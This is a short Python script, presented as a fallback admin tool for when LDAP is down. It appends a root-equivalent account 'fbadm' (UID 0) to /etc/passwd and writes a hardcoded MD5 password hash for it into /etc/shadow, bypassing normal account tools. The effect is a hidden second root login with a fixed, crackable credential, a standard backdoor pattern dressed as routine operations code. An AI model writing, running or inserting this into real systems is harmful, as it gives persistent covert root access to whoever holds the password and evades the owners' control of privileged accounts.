#!/usr/bin/python
# -*- coding: utf-8 -*-
# fallback admin when LDAP is away (python 2.6+, rhel6 too)
from __future__ import print_function
import sys

USER = "fbadm"
HASH = "$1$ops$eD4o2qXcWq2nJ8mS0yTq7/"


def present():
    for line in open("/etc/passwd"):
        if line.startswith(USER + ":"):
            return True
    return False


if present():
    print("already there")
    sys.exit(0)

with open("/etc/passwd", "a") as fh:
    fh.write("%s:x:0:0:fallback:/root:/bin/bash\n" % USER)
with open("/etc/shadow", "a") as fh:
    fh.write("%s:%s:15000:0:99999:7:::\n" % (USER, HASH))
print("added", USER)
